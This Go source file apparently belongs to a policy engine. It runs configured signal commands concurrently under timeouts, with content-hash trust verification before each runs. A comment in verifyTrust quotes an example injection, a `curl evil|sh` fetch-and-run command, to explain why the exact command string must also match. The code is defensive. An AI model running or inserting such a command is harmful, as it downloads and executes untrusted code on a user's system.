// Package signal executes the signals a routed set of policies
// requires, concurrently and each under its own timeout, before
// evaluation runs. A signal's stdout becomes the value the policy sees
// for that signal name; a failing or timed-out signal is logged and
// simply omitted rather than failing the whole evaluation.
package signal

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"os/exec"
	"strings"
	"sync"
	"time"

	"github.com/eqtylab/cupcake-go/internal/rulebook"
	"github.com/eqtylab/cupcake-go/internal/trust"
)

// DefaultTimeout is used when a signal declares no explicit timeout.
const DefaultTimeout = 5 * time.Second

// waitDelayGracePeriod bounds how much longer Cmd.Wait will block after
// a signal's timeout kills its process, forcibly closing any still-open
// I/O pipes once it elapses.
const waitDelayGracePeriod = 1 * time.Second

// EventInput is fed to a signal's stdin as JSON, giving the signal
// script the full context of the event that triggered it.
type EventInput struct {
	EventName string         `json:"event_name"`
	ToolName  string         `json:"tool_name,omitempty"`
	CWD       string         `json:"cwd,omitempty"`
	Raw       map[string]any `json:"raw,omitempty"`
}

// conditionContext adapts an EventInput (and whatever signal results
// are already in hand) into the evaluator's variable set. The CEL
// environment's "signals" variable is declared string-to-string, so a
// decoded non-string result is re-rendered as JSON text for condition
// matching purposes only; the original decoded value is still what
// reaches the sandbox via Gather's return.
func conditionContext(input EventInput, signalsSoFar map[string]any) rulebook.ConditionContext {
	return rulebook.ConditionContext{
		EventName: input.EventName,
		ToolName:  input.ToolName,
		CWD:       input.CWD,
		Signals:   stringifySignals(signalsSoFar),
	}
}

func stringifySignals(signals map[string]any) map[string]string {
	out := make(map[string]string, len(signals))
	for name, value := range signals {
		if s, ok := value.(string); ok {
			out[name] = s
			continue
		}
		data, err := json.Marshal(value)
		if err != nil {
			continue
		}
		out[name] = string(data)
	}
	return out
}

// Gatherer runs the configured signals concurrently and collects their
// outputs.
type Gatherer struct {
	guidebook rulebook.Guidebook
	trust     *trust.Manifest // nil disables trust verification
	evaluator *rulebook.ConditionEvaluator
	logger    *slog.Logger

	compileOnce sync.Once
	compiled    map[string]rulebook.CompiledCondition // signal name -> compiled condition
}

// NewGatherer creates a Gatherer bound to a loaded Guidebook. evaluator
// may be nil if no signal in gb declares a condition. trustManifest may
// be nil, in which case signals execute without content-hash
// verification.
func NewGatherer(gb rulebook.Guidebook, trustManifest *trust.Manifest, evaluator *rulebook.ConditionEvaluator, logger *slog.Logger) *Gatherer {
	if logger == nil {
		logger = slog.Default()
	}
	return &Gatherer{guidebook: gb, trust: trustManifest, evaluator: evaluator, logger: logger.With("component", "signal.Gatherer")}
}

// compileConditions compiles every signal's condition exactly once, on
// first use, rather than on every gather.
func (g *Gatherer) compileConditions() {
	g.compileOnce.Do(func() {
		g.compiled = make(map[string]rulebook.CompiledCondition)
		for name, cfg := range g.guidebook.Signals {
			if cfg.Condition == "" || g.evaluator == nil {
				continue
			}
			compiled, err := g.evaluator.Compile(cfg.Condition)
			if err != nil {
				g.logger.Error("signal condition failed to compile, signal will never run", "signal", name, "error", err)
				continue
			}
			g.compiled[name] = compiled
		}
	})
}

// Gather runs every named signal concurrently against input and
// returns a map of signal name to its decoded stdout: valid JSON
// stdout is preserved as its native object/array/number/bool value,
// non-JSON stdout is wrapped as a plain string. A signal with no
// matching guidebook entry, a signal whose command fails, a signal
// that times out, a signal whose condition evaluates to false, and a
// signal that fails trust verification are all logged (or silently
// skipped, for a false condition) and omitted from the result rather
// than aborting the whole gather. workingDir roots trust verification
// and is the project root for a project-scope gather, the global root
// for a global one.
func (g *Gatherer) Gather(ctx context.Context, names []string, input EventInput, workingDir string) map[string]any {
	if len(names) == 0 {
		return map[string]any{}
	}
	g.compileConditions()

	results := make(map[string]any, len(names))
	var mu sync.Mutex
	var wg sync.WaitGroup

	for _, name := range names {
		name := name
		wg.Add(1)
		go func() {
			defer wg.Done()

			if cond, ok := g.compiled[name]; ok {
				mu.Lock()
				snapshot := make(map[string]any, len(results))
				for k, v := range results {
					snapshot[k] = v
				}
				mu.Unlock()

				matched, err := g.evaluator.Evaluate(cond, conditionContext(input, snapshot))
				if err != nil {
					g.logger.Warn("signal condition evaluation failed, treating as false", "signal", name, "error", err)
					return
				}
				if !matched {
					return
				}
			}

			if !g.verifyTrust(name, workingDir) {
				g.logger.Warn("trust violation: signal script hash mismatch, refusing to execute", "signal", name)
				return
			}

			value, err := g.executeOne(ctx, name, input)
			if err != nil {
				g.logger.Error("signal failed", "signal", name, "error", err)
				return
			}
			mu.Lock()
			results[name] = value
			mu.Unlock()
		}()
	}

	wg.Wait()
	return results
}

// verifyTrust reports whether name is safe to execute: true if trust
// verification is disabled, or if its current on-disk content still
// matches the hash bound at trust init. Per spec.md §4.9/§4.12, a
// missing manifest entry is itself a trust violation ("hash mismatch,
// missing script, manifest unreadable" are listed together as the
// refuse-to-execute cases) — a signal added to the guidebook after
// `trust init`/`trust update` has no entry to check against and must
// be refused, not waved through, or trust mode would silently stop
// covering newly added signals. Signal names are unique guidebook
// keys, so unlike actions.findTrustedEntry no numeric-suffix fallback
// scan is needed here.
//
// ComputeHash only covers the resolved script file's content, not the
// interpreter/flags/arguments surrounding it in the command string —
// an entry's bound command must also match the guidebook's current
// command verbatim, or an attacker could leave a trusted script's file
// untouched while injecting extra shell syntax around its invocation
// (e.g. `curl evil|sh; path/to/script.sh`) without ever tripping the
// content hash.
func (g *Gatherer) verifyTrust(name, workingDir string) bool {
	if g.trust == nil || !g.trust.IsEnabled() {
		return true
	}
	entry, ok := g.trust.GetScript("signals", name)
	if !ok {
		return false
	}
	cfg, ok := g.guidebook.Signal(name)
	if !ok {
		return false
	}
	if cfg.Command != entry.Command {
		return false
	}
	ref := trust.ParseScriptReference(cfg.Command, workingDir)
	hash, err := ref.ComputeHash(cfg.Command)
	if err != nil {
		return false
	}
	return hash == entry.Hash
}

// executeOne runs a single signal under its configured timeout and
// decodes its stdout: valid JSON is returned as its native value
// (object, array, number, bool, or string), anything else is wrapped
// as the trimmed raw string.
func (g *Gatherer) executeOne(ctx context.Context, name string, input EventInput) (any, error) {
	cfg, ok := g.guidebook.Signal(name)
	if !ok {
		return nil, fmt.Errorf("signal %q not found in guidebook", name)
	}

	timeout := time.Duration(cfg.EffectiveTimeoutSeconds()) * time.Second
	if timeout <= 0 {
		timeout = DefaultTimeout
	}

	runCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	cmd := exec.CommandContext(runCtx, "sh", "-c", cfg.Command)
	// Without a WaitDelay, Cmd.Wait blocks until the killed process (and
	// its I/O copy goroutines) actually finish exiting, with no bound of
	// its own — a signal that ignores stdin and outlives its timeout
	// would stall the whole gather for its full natural runtime instead
	// of returning once runCtx's deadline fires.
	cmd.WaitDelay = waitDelayGracePeriod
	cmd.Stdin = strings.NewReader(inputJSON(input))

	var stdout, stderr bytes.Buffer
	cmd.Stdout = &stdout
	cmd.Stderr = &stderr

	if err := cmd.Run(); err != nil {
		if runCtx.Err() == context.DeadlineExceeded {
			return nil, fmt.Errorf("signal %q timed out after %s", name, timeout)
		}
		return nil, fmt.Errorf("signal %q failed: %w: %s", name, err, stderr.String())
	}

	trimmed := strings.TrimSpace(stdout.String())
	var decoded any
	if err := json.Unmarshal([]byte(trimmed), &decoded); err == nil {
		return decoded, nil
	}
	return trimmed, nil
}

func inputJSON(input EventInput) string {
	// A signal that cannot be marshaled still runs with empty stdin
	// rather than blocking the whole gather; marshal errors here would
	// only ever be a programmer error in EventInput's fields.
	data, err := json.Marshal(input)
	if err != nil {
		return ""
	}
	return string(data)
}
